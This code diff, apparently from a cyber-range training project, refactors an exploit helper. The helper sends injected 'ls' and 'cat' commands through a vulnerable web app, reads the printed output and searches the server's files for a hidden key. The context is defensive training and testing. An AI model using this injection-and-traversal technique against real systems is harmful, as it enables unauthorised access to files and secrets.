@@ -5,12 +5,13 @@ from __future__ import annotations
 import re
 from collections.abc import Callable
 
+from openrange.packs.webapp.weaknesses.exploring import nearest
+
 TYPE_CHECKING = False
 if TYPE_CHECKING:
     from openrange.packs.webapp.client import Client
     from openrange.packs.webapp.world import Link
 
-_MOST_PLACES = 24
 _PRINTED = re.compile(r"<pre>(.*?)</pre>", re.DOTALL)
 _NAME = re.compile(r"[\w.-]+")
 
@@ -33,16 +34,14 @@ def explored(client: Client, payload: Callable[[str, str], str]) -> str | None:
 
     # What stands on each page, whatever was asked for, is no name of a file.
     usual = printed("ls", "/nowhere") | printed("cat", "/nowhere") | {"/"}
-    waiting, looked = ["/"], 0
-    while waiting and looked < _MOST_PLACES:
-        folder, looked = waiting.pop(0), looked + 1
-        for name in sorted(printed("ls", folder) - usual):
-            path = f"{folder.rstrip('/')}/{name}"
-            if "." not in name:
-                waiting.append(path)
-            elif found := client.key(client.send(door, payload("cat", path))):
-                return found
-    return None
+
+    def look(steps: tuple[str, ...]) -> tuple[str | None, list[str]]:
+        path = f"/{'/'.join(steps)}"
+        if steps and "." in steps[-1]:
+            return client.key(client.send(door, payload("cat", path))), []
+        return None, sorted(printed("ls", path) - usual)
+
+    return nearest(look)
 
 
 def ask_what_is_offered(client: Client, link: Link) -> None:
